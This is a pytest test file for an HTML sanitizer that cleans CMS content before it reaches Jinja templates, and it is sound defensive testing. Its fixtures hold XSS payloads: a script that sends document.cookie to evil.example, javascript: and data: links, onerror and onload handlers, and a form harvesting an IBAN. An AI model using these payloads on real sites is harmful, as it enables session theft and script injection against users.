"""CMS bodies are cleaned to an allowlist, and never become template code.

Each expected output below is the exact string the allowlist leaves, worked out by hand
from the rules in `q2c.content.cms.sanitize`.
"""

from __future__ import annotations

import datetime as dt
import hashlib

import pytest
from jinja2.sandbox import SandboxedEnvironment

from q2c.content.cms.base import CmsError, CmsItem
from q2c.content.cms.sanitize import html_to_text, sanitize_html, sanitize_item

REL = 'rel="noopener noreferrer"'


def _item(body: str | bytes, kind: str = "blocks", media_type: str = "text/html") -> CmsItem:
    return CmsItem(
        source="wordpress", external_id="7", locale="en", source_version="1",
        source_status="publish", status="approved", kind=kind, content_id="notice",
        title="Notice", body=body.encode() if isinstance(body, str) else body,
        media_type=media_type, modified_at=dt.datetime(2027, 1, 1, tzinfo=dt.UTC),
        placement="top", case="late_payment",
    )


def test_scripts_and_event_handlers_are_removed_with_their_code():
    hostile = ('<p onclick="steal()" onmouseover="steal()">Pay by <strong>IBAN</strong>'
               '<script>fetch("https://evil.example/?c=" + document.cookie)</script></p>'
               '<svg onload="alert(1)"><script>alert(2)</script></svg>')
    assert sanitize_html(hostile) == "<p>Pay by <strong>IBAN</strong></p>"


def test_links_keep_only_https_and_mailto_and_get_noopener():
    links = ('<a href="javascript:alert(1)">a</a>'
             '<a href=" JaVaScRiPt:alert(1)">b</a>'
             '<a href="data:text/html,<script>alert(1)</script>">c</a>'
             '<a href="http://plain.example/">d</a>'
             '<a href="/relative">e</a>'
             '<a href="https://northwind.example/pay" target="_blank">f</a>'
             '<a href="mailto:billing@northwind.example">g</a>')
    assert sanitize_html(links) == (
        f"<a {REL}>a</a><a {REL}>b</a><a {REL}>c</a><a {REL}>d</a><a {REL}>e</a>"
        f'<a href="https://northwind.example/pay" {REL}>f</a>'
        f'<a href="mailto:billing@northwind.example" {REL}>g</a>'
    )


def test_no_image_remote_or_inline_reaches_a_template():
    images = ('<p>Logo<img src="https://evil.example/track.png" onerror="alert(1)">'
              '<img src="data:image/png;base64,iVBORw0KGgo=">'
              '<picture><source srcset="https://evil.example/a.webp"></picture></p>')
    assert sanitize_html(images) == "<p>Logo</p>"


def test_styles_that_could_fetch_are_gone():
    styled = ('<style>@import url("https://evil.example/a.css"); p { color: red }</style>'
              '<p style="background: url(https://evil.example/bg.png)">Text</p>'
              '<span style="font-family: x" dir="rtl" lang="ar">مرحبا</span>'
              '<link rel="stylesheet" href="https://evil.example/b.css">')
    assert sanitize_html(styled) == '<p>Text</p><span dir="rtl" lang="ar">مرحبا</span>'


def test_frames_objects_and_forms_are_dropped_with_their_content():
    embedded = ('<iframe src="https://evil.example/"><p>fallback</p></iframe>'
                '<object data="https://evil.example/x.swf">obj</object>'
                '<form action="https://evil.example/"><input name="iban">Your IBAN</form>'
                '<p>kept</p>')
    assert sanitize_html(embedded) == "<p>kept</p>"


def test_text_formatting_lists_headings_and_tables_are_kept():
    body = ('<h3>Closing</h3><p>We are <em>closed</em><br>from 24 December.</p>'
            '<ul><li>one</li></ul><ol><li>two</li></ol>'
            '<table><thead><tr><th scope="col" colspan="2">Days</th></tr></thead>'
            '<tbody><tr><td rowspan="1">24</td><td>31</td></tr></tbody></table>')
    assert sanitize_html(body) == body


def test_template_syntax_is_kept_as_text_and_never_evaluated():
    body = '<p>{{ config }} {% for x in range(3) %}x{% endfor %} {# note #}</p>'
    cleaned = sanitize_html(body)
    assert cleaned == ("<p>&#123;&#123; config &#125;&#125; &#123;% for x in range(3) %&#125;"
                       "x&#123;% endfor %&#125; &#123;# note #&#125;</p>")
    rendered = SandboxedEnvironment(autoescape=True).from_string(cleaned).render(
        config="SECRET"
    )
    assert rendered == cleaned  # Jinja saw no tag at all: the braces print as text


def test_braces_split_by_a_removed_tag_do_not_join_into_a_tag():
    assert sanitize_html("{<script>x</script>{ config }}") == (
        "&#123;&#123; config &#125;&#125;"
    )


def test_a_legal_text_is_stored_as_plain_text_without_template_openers():
    stored = sanitize_item(_item(
        "<p>Late <b>payment</b>: 9 points &amp; EUR 40.</p><script>x()</script>"
        "<p>{{ config }}</p>", kind="legal"))
    assert stored.suffix == ".txt" and stored.media_type == "text/plain"
    assert stored.body.decode() == "Late payment: 9 points & EUR 40.\n{\u200b{ config }}\n"
    assert stored.changed


def test_a_plain_text_block_is_escaped_into_paragraphs():
    stored = sanitize_item(_item("Closed <b>soon</b>\nsee {{ doc }}\n\nThanks",
                                 media_type="text/plain"))
    assert stored.body.decode() == (
        "<p>Closed &lt;b&gt;soon&lt;/b&gt;<br>see &#123;&#123; doc &#125;&#125;</p>\n"
        "<p>Thanks</p>\n"
    )


def test_the_stored_hash_is_of_the_sanitized_body_and_the_raw_hash_is_kept():
    raw = '<p onclick="x()">Hello</p>'
    stored = sanitize_item(_item(raw))
    assert stored.body == b"<p>Hello</p>\n"
    assert stored.sha256 == hashlib.sha256(b"<p>Hello</p>\n").hexdigest()
    assert stored.raw_sha256 == hashlib.sha256(raw.encode()).hexdigest()


def test_assets_and_documents_are_kept_byte_for_byte():
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    stored = sanitize_item(_item(pdf, kind="document", media_type="application/pdf"))
    assert (stored.body, stored.suffix) == (pdf, ".pdf")
    assert stored.sha256 == stored.raw_sha256 == hashlib.sha256(pdf).hexdigest()


@pytest.mark.parametrize("markup, text", [
    ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
    ("<p>one   two</p>\n\n<p> three </p>", "one two\nthree"),
    ("<table><tr><td>x</td><td>y</td></tr></table>", "x y"),
])
def test_html_to_text_puts_paragraphs_items_and_rows_on_their_own_lines(markup, text):
    assert html_to_text(markup) == text


@pytest.mark.parametrize("kind", ["blocks", "legal"])
def test_a_body_nested_deeper_than_40_levels_is_refused_naming_the_item(kind):
    forty = "<b>" * 40 + "deep" + "</b>" * 40
    assert sanitize_html(forty) == forty  # 40 levels still print as written
    with pytest.raises(CmsError) as refused:
        sanitize_item(_item("<b>" * 300 + "deep" + "</b>" * 300, kind=kind))
    assert str(refused.value) == (
        "wordpress item 7 (en) version 1 (notice): body nests elements 300 levels deep, "
        "more than the 40 q2c takes; remove the nested markup in the CMS and publish again"
    )


def test_unclosed_list_items_and_paragraphs_do_not_count_as_nesting():
    assert html_to_text("<ul>" + "<li>a" * 60 + "</ul>" + "<p>b" * 60) == "\n".join(
        ["a"] * 60 + ["b"] * 60
    )


def test_a_body_over_256_kb_is_refused_naming_its_size():
    with pytest.raises(CmsError, match=r"item 7 \(en\) version 1 \(notice\): body is "
                                       r"262151 bytes, more than the 262144"):
        sanitize_item(_item("<p>" + "A" * 262144 + "</p>"))


def test_bidi_embedding_override_and_isolate_controls_are_removed():
    body = "<p>Pay \u202eto IBAN 1234\u202c now \u2066x\u2069 &#x202E;y \u200f</p>"
    assert sanitize_html(body) == "<p>Pay to IBAN 1234 now x y \u200f</p>"
    stored = sanitize_item(_item("IBAN \u202bDE89\u202a \u2067x\u2068", kind="legal",
                                 media_type="text/plain"))
    assert stored.body.decode() == "IBAN DE89 x\n"


@pytest.mark.parametrize("markup, block, text", [
    ("<div>Line A</div><div>Line B</div>", "<div>Line A</div><div>Line B</div>",
     "Line A\nLine B"),
    ("word<hr>other", "word<hr>other", "word\nother"),
    ("<blockquote>Quote</blockquote>Next", "<blockquote>Quote</blockquote>Next",
     "Quote\nNext"),
    ("<dl><dt>Term</dt><dd>Def</dd></dl>", "<dl><dt>Term</dt><dd>Def</dd></dl>",
     "Term\nDef"),
    ('<h1>Big</h1><h2 class="wp-block-heading">Verzug</h2><p>Zinsen</p>',
     "<h3>Big</h3><h3>Verzug</h3><p>Zinsen</p>", "Big\nVerzug\nZinsen"),
])
def test_block_elements_keep_their_lines_apart(markup, block, text):
    assert sanitize_html(markup) == block
    assert html_to_text(markup) == text
